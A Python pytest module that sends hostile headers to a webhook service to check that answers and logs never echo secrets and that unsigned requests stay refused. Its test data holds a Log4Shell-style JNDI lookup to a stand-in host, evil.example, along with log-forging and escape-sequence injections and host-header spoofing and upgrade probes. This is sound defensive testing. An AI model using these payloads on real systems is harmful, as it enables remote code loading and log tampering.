"""Attacks by headers that aim at answers, logs, and the check of signatures."""

from __future__ import annotations

import uuid
from collections.abc import Callable, Iterator, Mapping

import pytest

from tests.attacks.evidence import log_lines, now_in_ms
from tests.attacks.probes import (
    STAGE,
    Probe,
    encoded,
    new_uuid,
    started,
    to_ingest,
    to_slack,
    to_status,
    to_webhook,
)
from tests.attacks.target import WRONGLY_SIGNED, Target

pytestmark = pytest.mark.usefixtures("no_error_mail")

MARK = f"mark{uuid.uuid4().hex}"
"""A word in headers that no answer and no log line may contain."""

MARKED: Mapping[str, str] = {
    "authorization": f"Bearer {MARK}",
    "cookie": f"session={MARK}",
    "x-schedule-token": MARK,
    "x-api-key": MARK,
    "proxy-authorization": f"Basic {MARK}",
    "user-agent": f"${{jndi:ldap://evil.example/{MARK}}}",
    "referer": f"https://evil.example/?token={MARK}",
    "x-amzn-trace-id": f"Root={MARK}",
    "x-amzn-requestid": MARK,
    "x-request-id": f'{MARK}", "level": "ERROR',
    "accept-language": f"{MARK}\x1b[31m",
}
REQUESTS: Mapping[str, Callable[[Target], tuple[Probe, tuple[int, ...]]]] = {
    "the webhook": lambda target: (
        to_webhook(encoded(started(new_uuid())), target.zoom_secret).having(x_zm_signature=MARK),
        WRONGLY_SIGNED,
    ),
    "slack": lambda target: (
        to_slack({"text": MARK}, target.slack_secret).having(x_slack_signature=f"v0={MARK}"),
        (401,),
    ),
    "ingest": lambda _: (to_ingest({}), (400,)),
    "status": lambda _: (to_status("seconds=x"), (400,)),
    "a route that doesn't exist": lambda _: (Probe(path=f"{STAGE}/{MARK}"), (403,)),
}


@pytest.fixture(scope="module")
def since() -> int:
    """Return the time before the first marked request, in ms since 1970."""
    return now_in_ms()


@pytest.mark.parametrize("name", REQUESTS)
@pytest.mark.usefixtures("since")
def test_answer_repeats_no_header_of_its_request(name: str, target: Target) -> None:
    probe, statuses = REQUESTS[name](target)
    answer = target.assert_refused(probe.having(**MARKED), *statuses)
    assert MARK not in answer.text
    assert "set-cookie" not in answer.headers


def test_log_repeats_no_header_of_a_request(since: int, target: Target) -> None:
    unsigned = to_webhook(encoded(started(new_uuid())), "").having(x_zm_signature=None)
    assert target.send(unsigned.having(**MARKED)).status == 401
    lines = list(log_lines(target.driver, since))
    assert any("Refused with 401" in line for line in lines)
    assert [line for line in lines if MARK in line] == []


ODD: Mapping[str, Mapping[str, str]] = {
    "a host of another API": {"host": "evil.example"},
    "a host that is forwarded": {"x-forwarded-host": "evil.example"},
    "another scheme": {"x-forwarded-proto": "http"},
    "another port": {"x-forwarded-port": "1"},
    "a content of no length": {"content-length": "0"},
    "100 headers": {f"x-{number}": "x" for number in range(100)},
    "a header of 8,000 letters": {"x-long": "x" * 8000},
    "a range": {"range": "bytes=0-0"},
    "an upgrade": {"upgrade": "h2c", "connection": "upgrade"},
    "an expectation": {"expect": "200-ok"},
}


@pytest.mark.parametrize("name", ODD)
def test_unsigned_webhook_event_is_refused_whatever_odd_headers_it_has(
    name: str, target: Target
) -> None:
    uid = new_uuid()
    honest = to_webhook(encoded(started(uid)), target.zoom_secret)
    unsigned = honest.having(x_zm_signature=None, **ODD[name])
    if name == "a content of no length":
        unsigned = unsigned.containing(b"")
    # The local cloud's gateway refuses a foreign host itself, as API Gateway's routing does.
    target.assert_refused(unsigned, 403 if name == "a host of another API" else 401)
    assert target.send(honest).status == 204
    assert target.row_of(uid)


def test_cors_preflight_of_another_origin_allows_only_plus_zoom_requests(
    target: Target,
) -> None:
    asked = {"origin": "https://evil.example", "access-control-request-method": "POST"}
    for path in ("new_recording", "status", "slack", "schedule_update", ""):
        probe = Probe(path=f"{STAGE}/{path}", method="OPTIONS", headers=asked)
        answer = target.assert_refused(probe, 403)
        assert "access-control-allow-methods" not in answer.headers
    allowed = target.send(Probe(path=f"{STAGE}/ingest", method="OPTIONS", headers=asked))
    assert allowed.status == 204
    assert allowed.headers["access-control-allow-methods"] == "POST,OPTIONS"
    assert "access-control-allow-credentials" not in allowed.headers


@pytest.fixture(autouse=True)
def _still_answering(target: Target) -> Iterator[None]:
    """Assert after each attack that an honest request succeeds."""
    yield
    assert target.send(to_status("meeting_id=1")).status == 200
